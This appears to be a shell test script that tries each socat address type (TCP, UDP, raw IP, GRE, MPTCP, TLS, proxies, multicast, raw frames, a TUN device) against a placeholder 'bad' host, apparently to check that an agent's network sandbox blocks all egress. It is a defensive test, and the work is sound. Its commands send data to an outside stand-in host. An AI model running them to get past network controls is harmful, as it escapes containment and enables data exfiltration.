# Each kind of address that socat has and that leads somewhere.
say sk-tcp socat -t 0.3 -u - "TCP4:$BAD4:443"
say sk-tcp6 socat -t 0.3 -u - "TCP6:[$BAD6]:443"
say sk-udp socat -t 0.3 -u - "UDP4:$BAD4:443"
say sk-datagram socat -t 0.3 -u - "UDP4-SENDTO:$BAD4:443"
say sk-udp6 socat -t 0.3 -u - "UDP6-SENDTO:[$BAD6]:443"
say sk-device socat -t 0.3 -u - "UDP4-SENDTO:$BAD4:443,so-bindtodevice=agent0"
say sk-bound socat -t 0.3 -u - "UDP4-SENDTO:$BAD4:443,bind=$AGENT4:53,reuseaddr"
say sk-icmp socat -t 0.3 -u - "IP4-SENDTO:$BAD4:1"
say sk-gre socat -t 0.3 -u - "IP4-SENDTO:$BAD4:47"
say sk-six socat -t 0.3 -u - "IP6-SENDTO:[$BAD6]:59"
say sk-multicast socat -t 0.3 -u - "UDP4-DATAGRAM:239.1.2.3:443,ip-multicast-if=$AGENT4"
say sk-broadcast socat -t 0.3 -u - "UDP4-DATAGRAM:192.0.2.255:443,broadcast"
# 203.0.113.66:443 as the kernel has it; 262 is MPTCP, 136 UDP-Lite.
say sk-mptcp socat -t 0.3 -u - 'SOCKET-CONNECT:2:262:x01bbcb0071420000000000000000'
say sk-lite socat -t 0.3 -u - 'SOCKET-SENDTO:2:2:136:x01bbcb0071420000000000000000'
say sk-tls socat -t 0.3 -u - "OPENSSL:$BAD4:443,verify=0"
say sk-http socat -t 0.3 -u - "PROXY:$BAD4:203.0.113.10:80,proxyport=80"
say sk-socks socat -t 0.3 -u - "SOCKS4:$BAD4:203.0.113.10:80,socksport=444"
# A frame by itself, and an IP packet into a device that the kernel forwards from.
{ /usr/bin/python3 "$FILES/packet.py" frame | t socat -t 0.3 -u - INTERFACE:agent0; } &
(/usr/bin/python3 "$FILES/packet.py" tunnel; sleep 0.5) | t socat -u - TUN:198.51.100.1/24,up,iff-no-pi,tun-name=weapon0 &
wait
